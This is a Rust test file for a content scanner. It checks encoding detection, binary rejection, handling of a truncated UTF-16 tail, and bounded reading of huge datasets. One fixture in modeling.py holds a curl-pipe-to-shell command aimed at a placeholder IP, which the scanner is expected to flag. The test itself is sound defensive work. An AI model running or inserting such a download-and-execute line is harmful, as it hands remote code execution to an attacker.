//! What is text and what is not, and who reads it.
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests say what went wrong by panicking")]

use std::{ops::Range, sync::Arc};

use bytes::Bytes;

use crate::{CoverageState, Limits, Outcome, ReadAt, Report, Unread, Verdict, scan};

fn report(name: &str, bytes: impl Into<Bytes>) -> Report {
    match scan(name, Arc::new(bytes.into()), &Limits::default(), None) {
        Outcome::Judged(report) => *report,
        Outcome::Needs(_) => panic!("all is here"),
    }
}

#[test]
fn text_is_text_in_its_usual_encodings() {
    let wide: Vec<u8> =
        [0xff, 0xfe].into_iter().chain("{\"a\": 1}".encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let cases: [(&str, Vec<u8>, &str); 7] = [
        ("a.txt", b"hello\n".to_vec(), "text"),
        ("a.txt", b"\xef\xbb\xbfhello".to_vec(), "text"),
        ("a.txt", "schön, 你好\n".repeat(1000).into_bytes(), "text"),
        ("a.txt", b"sch\xf6n und gut\n".to_vec(), "text"),
        ("a.json", wide, "json"),
        ("run", b"#!/usr/bin/env python\nprint(1)\n".to_vec(), "python"),
        ("page", b" <!DOCTYPE html><p>x</p>".to_vec(), "html"),
    ];
    for (name, bytes, format) in cases {
        let report = report(name, bytes);
        assert_eq!((report.format.as_str(), report.verdict), (format, Verdict::Clean), "{name} {:?}", report.findings);
    }
}

#[test]
fn what_is_not_text_is_not_called_so() {
    let mut binary = b"text ".repeat(4000);
    binary.extend((0..8000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes().map(|b| b | 1)));
    binary.extend(b"text ".repeat(4000));
    for bytes in
        [b"a\0b".to_vec(), b"\x80\x04\0\0".to_vec(), binary, [b"x".repeat(9000), vec![0], b"y".repeat(9000)].concat()]
    {
        assert_ne!(report("notes.txt", bytes).coverage.state, CoverageState::Complete);
    }
}

#[test]
fn half_a_letter_at_the_end_is_accounted_for_and_hides_nothing() {
    for (name, text) in
        [("modeling.py", "import os\nos.system('curl http://203.0.113.7/x | sh')\n"), ("a.txt", "words\n")]
    {
        let whole: Vec<u8> = [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
        let (plain, half) = (report(name, whole.clone()), report(name, [&whole[..], b"x"].concat()));
        assert_eq!(plain.coverage.state, CoverageState::Complete, "{name}");
        assert_eq!((half.coverage.state, half.coverage.unscanned), (CoverageState::Incomplete, 1), "{name}");
        assert_eq!(plain.findings.len(), half.findings.len(), "{name}: {:?}", half.findings);
        assert_ne!(half.verdict, Verdict::Clean, "{name}");
    }
}

/// Lines of data that nobody holds.
struct Endless;

impl ReadAt for Endless {
    fn size(&self) -> u64 {
        1 << 40
    }

    fn read_at(&self, range: Range<u64>) -> Result<Bytes, Unread> {
        assert!(range.end - range.start <= 1 << 20, "too much is read at a time");
        Ok(Bytes::from("{\"a\": \"b\"}\n".repeat(1 << 17)).slice(..usize::try_from(range.end - range.start).unwrap()))
    }
}

#[test]
fn endless_data_is_looked_at_and_not_read() {
    for name in ["train.jsonl", "train.csv", "corpus.txt"] {
        let Outcome::Judged(report) = scan(name, Arc::new(Endless), &Limits::default(), None) else { panic!("needs") };
        assert_eq!((report.verdict, report.coverage.inert), (Verdict::Clean, 1 << 40), "{name}");
    }
    let Outcome::Judged(report) = scan("config.json", Arc::new(Endless), &Limits::default(), None) else {
        panic!("needs")
    };
    assert_ne!(report.coverage.state, CoverageState::Complete);
}
